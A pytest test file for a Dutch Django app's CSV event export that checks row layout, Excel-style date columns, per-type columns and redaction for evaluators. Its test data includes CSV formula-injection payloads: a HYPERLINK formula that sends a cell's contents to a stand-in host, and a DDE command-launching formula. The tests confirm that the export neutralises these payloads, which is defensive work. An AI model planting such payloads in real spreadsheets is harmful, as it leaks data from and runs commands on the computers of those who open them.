"""The CSV export: a spreadsheet row per event, and no formula can run from it."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from cases import services
from cases.events import soorten
from cases.exports.csvbestand import EXCEL_TIJD, KOLOMMEN, iso_en_excel, kolommen_van, onschadelijk
from cases.exports.formaten import FORMATEN
from cases.exports.gebeurtenissen import bereid_voor
from cases.models import Bestuursproces, Gebeurtenis, Zichtbaarheid
from tests.cases._evaluatiecasus import Evaluatiecasus, bouw_evaluatiecasus
from tests.cases.api.helpers import fouten, proces_url
from tests.factories import GebruikerFactory, actor_voor

from .conftest import GEHEIMEN, exporteer

VIJANDIG = [
    '=HYPERLINK("http://kwaad.example/?"&A1;"klik")',
    "+31 6 12345678",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rijen(inhoud: bytes) -> list[list[str]]:
    assert inhoud.startswith("\ufeff".encode())
    tekst = inhoud.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(tekst, newline=""), delimiter=";"))


@pytest.mark.parametrize("waarde", [*VIJANDIG, "gewoon", "", None, 12])
def test_onschadelijk(waarde: Any) -> None:
    tekst = onschadelijk(waarde)

    if isinstance(waarde, str) and waarde[:1] in {"=", "+", "-", "@", "\t", "\r"}:
        assert tekst == "'" + waarde
    else:
        assert tekst == ("" if waarde is None else str(waarde))


def test_een_rij_per_gebeurtenis(dossier: Bestuursproces) -> None:
    kop, *data = rijen(exporteer(dossier, "csv", "procesregisseur"))
    opgeslagen = list(Gebeurtenis.objects.filter(bestuursproces=dossier).order_by("volgnummer"))

    assert kop == KOLOMMEN
    assert [int(r[0]) for r in data] == [g.volgnummer for g in opgeslagen]
    eerste = dict(zip(KOLOMMEN, data[0], strict=True))
    assert eerste["type"] == "bestuursproces.geopend"
    assert eerste["typeOmschrijving"] == "Bestuursproces geopend"
    assert eerste["hash"] == opgeslagen[0].hash
    assert eerste["afgeschermd"] == "nee"
    assert eerste["payload"].startswith('{"bestuursproces":{')


def test_afgeschermd_voor_de_evaluator(dossier: Bestuursproces) -> None:
    inhoud = exporteer(dossier, "csv", "evaluator")
    _, *data = rijen(inhoud)
    notitie = next(dict(zip(KOLOMMEN, r, strict=True)) for r in data if r[1] == "notitie.gemaakt")

    assert notitie["afgeschermd"] == "ja"
    assert notitie["payload"] == '{"afgeschermd":true,"zichtbaarheid":"regisseur"}'
    assert not any(geheim.encode() in inhoud for geheim in GEHEIMEN)


def test_vijandige_tekst_wordt_geen_formule(dossier: Bestuursproces, regisseur: Any) -> None:
    kwaad: Any = GebruikerFactory(username="-kwaad", first_name="=1+1", last_name="Kwaad")
    services.voeg_lid_toe(
        actor=actor_voor(regisseur), bestuursproces=dossier, gebruiker=kwaad, rol="kernteam"
    )
    for tekst in VIJANDIG:
        dossier.refresh_from_db()
        services.maak_notitie(
            actor=actor_voor(kwaad), bestuursproces=dossier, tekst=tekst, zichtbaarheid="proces"
        )
        services.wijzig_stadium(
            actor=actor_voor(regisseur),
            bestuursproces=dossier,
            naar="voorstelbaar" if dossier.stadium == "houdbaar" else "houdbaar",
            toelichting=tekst,
            forceren=True,
        )

    _, *data = rijen(exporteer(dossier, "csv"))

    cellen = [cel for rij in data for cel in rij]
    assert not [cel for cel in cellen if cel[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    toelichtingen = [dict(zip(KOLOMMEN, r, strict=True))["toelichting"] for r in data]
    assert all("'" + tekst in toelichtingen for tekst in VIJANDIG)
    acteurs = {dict(zip(KOLOMMEN, r, strict=True))["actor"] for r in data}
    assert "'-kwaad" in acteurs
    namen = {dict(zip(KOLOMMEN, r, strict=True))["actorNaam"] for r in data}
    assert "'=1+1 Kwaad" in namen


# --- Excel dates ----------------------------------------------------------------------------

# The columns of the CSV before the Excel dates were added, in their order.
KOLOMMEN_VOOR_EXCEL = [
    "volgnummer",
    "type",
    "typeOmschrijving",
    "tijdstip",
    "geregistreerd",
    "actor",
    "actorNaam",
    "herkomst",
    "toelichting",
    "zichtbaarheid",
    "afgeschermd",
    "payload",
    "vorigeHash",
    "hash",
]


def als_dicts(inhoud: bytes) -> list[dict[str, str]]:
    kop, *data = rijen(inhoud)
    return [dict(zip(kop, rij, strict=True)) for rij in data]


def test_excel_datums_naast_iso_en_de_oude_kolommen_blijven(dossier: Bestuursproces) -> None:
    kop, *_ = rijen(exporteer(dossier, "csv", "evaluator"))
    data = als_dicts(exporteer(dossier, "csv", "evaluator"))
    opgeslagen = Gebeurtenis.objects.filter(bestuursproces=dossier).order_by("volgnummer")

    assert kop[: len(KOLOMMEN_VOOR_EXCEL)] == KOLOMMEN_VOOR_EXCEL
    for rij, gebeurtenis in zip(data, opgeslagen, strict=True):
        lokaal = timezone.localtime(gebeurtenis.tijdstip)
        # dd-mm-jjjj uu:mm, Dutch time: what a Dutch Excel reads as a date and time.
        assert re.fullmatch(r"\d\d-\d\d-\d{4} \d\d:\d\d", rij["tijdstipExcel"])
        gelezen = dt.datetime.strptime(rij["tijdstipExcel"], "%d-%m-%Y %H:%M")
        assert gelezen == lokaal.replace(tzinfo=None, second=0, microsecond=0)
        assert dt.datetime.fromisoformat(rij["tijdstip"]) == gebeurtenis.tijdstip
        geregistreerd = dt.datetime.strptime(rij["geregistreerdExcel"], "%d-%m-%Y %H:%M")
        assert geregistreerd == timezone.localtime(gebeurtenis.geregistreerd).replace(
            tzinfo=None, second=0, microsecond=0
        )


@given(
    st.datetimes(
        min_value=dt.datetime(1, 1, 2),
        timezones=st.sampled_from([dt.UTC, timezone.get_default_timezone()]),
    )
)
def test_de_excel_tijd_is_wat_strftime_ervan_maakt(moment: dt.datetime) -> None:
    # Cut from the ISO text for speed; it must stay what strftime gives, every year included.
    assert iso_en_excel(moment) == (moment.isoformat(), moment.strftime(EXCEL_TIJD))


# --- per event type -------------------------------------------------------------------------


def per_type(bestuursproces: Bestuursproces, keuze: str, rol: str) -> bytes:
    opdracht = bereid_voor(
        Bestuursproces.objects.get(pk=bestuursproces.pk),
        exporteur=rol,
        rol=rol,
        kanaal="test",
        zichtbaar=Zichtbaarheid.voor_rol(rol),
        gebeurtenistype=keuze,
    )
    return b"".join(FORMATEN["csv"].schrijver(opdracht))


@pytest.fixture
def casus(regisseur: Any) -> Evaluatiecasus:
    return bouw_evaluatiecasus(regisseur)


def test_een_type_met_een_kolom_per_gegeven(casus: Evaluatiecasus) -> None:
    inhoud = per_type(casus.proces, "interventie.gelogd", "procesregisseur")
    kop, *_ = rijen(inhoud)
    data = als_dicts(inhoud)

    assert kop[:4] == ["volgnummer", "type", "typeOmschrijving", "tijdstip"]
    assert kop[4] == "tijdstipExcel"
    assert {"interventie.titel", "interventie.datum", "interventie.velden"} <= set(kop)
    assert "payload" not in kop
    assert [r["type"] for r in data] == ["interventie.gelogd"] * len(casus.interventies)
    per_titel = {r["interventie.titel"]: r for r in data}
    keukentafel = per_titel["Keukentafelgesprekken"]
    interventie = casus.interventies["I1"]
    assert dt.date.fromisoformat(keukentafel["interventie.datum"]) == interventie.datum
    assert keukentafel["interventie.velden"] == "interne, verbindende"
    assert keukentafel["interventie.uuid"] == str(interventie.uuid)
    assert keukentafel["interventie.zwaarte"] == "middel"
    assert per_titel["Spiegelgesprek"]["interventie.status"] == "gepland"


def test_een_onderdeel_volgt_de_hele_cyclus(casus: Evaluatiecasus) -> None:
    data = als_dicts(per_type(casus.proces, "interventie", "procesregisseur"))
    i1 = str(casus.interventies["I1"].uuid)

    # Logged as done, then evaluated: the cycle of I1 as rows that sort by their Excel time.
    over_i1 = [r for r in data if i1 in (r.get("interventie"), r.get("interventie.uuid"))]
    assert [r["type"] for r in over_i1] == ["interventie.gelogd", "interventie.geevalueerd"]
    geevalueerd = over_i1[1]
    assert geevalueerd["uitgepakt"] == "ja"
    assert geevalueerd["waargenomenEffect"] == "Het werkte zo"
    assert dt.datetime.strptime(geevalueerd["tijdstipExcel"], "%d-%m-%Y %H:%M") > (
        dt.datetime.strptime(over_i1[0]["tijdstipExcel"], "%d-%m-%Y %H:%M")
    )
    assert {r["type"].split(".")[0] for r in data} == {"interventie"}


def test_per_type_afgeschermd_voor_de_evaluator(casus: Evaluatiecasus) -> None:
    inhoud = per_type(casus.proces, "interventie.gelogd", "evaluator")
    data = als_dicts(inhoud)

    afgeschermd = [r for r in data if r["afgeschermd"] == "ja"]
    assert len(afgeschermd) == 2  # the spiegelgesprek (kernteam) and the ontwerpatelier
    assert all(not r["interventie.titel"] and not r["toelichting"] for r in afgeschermd)
    assert all(r["hash"] for r in afgeschermd)
    assert b"Ontwerpatelier" not in inhoud
    assert b"Spiegelgesprek" not in inhoud


@pytest.mark.parametrize("code", list(soorten.alle()))
def test_de_kolommen_komen_uit_de_registratie(code: str) -> None:
    """Without events, a type's columns are its registered sleutels, in their order."""
    assert [k.naam for k in kolommen_van([code], [])] == list(soorten.soort(code).sleutels)


def test_per_type_via_de_api(casus: Evaluatiecasus, als: Any, regisseur: Any) -> None:
    url = proces_url(casus.proces, "/export")
    client = als(regisseur)

    response = client.get(url, {"formaat": "csv", "type": "interventie"})
    assert response.status_code == 200
    assert "-interventie-" in response["Content-Disposition"]
    assert als_dicts(b"".join(response.streaming_content))[0]["type"] == "interventie.gelogd"
    assert fouten(client.get(url, {"formaat": "jsonl", "type": "interventie"})) == {
        "type": "invalid"
    }
    assert fouten(client.get(url, {"formaat": "csv", "type": "bestaat.niet"})) == {
        "type": "invalid_choice"
    }
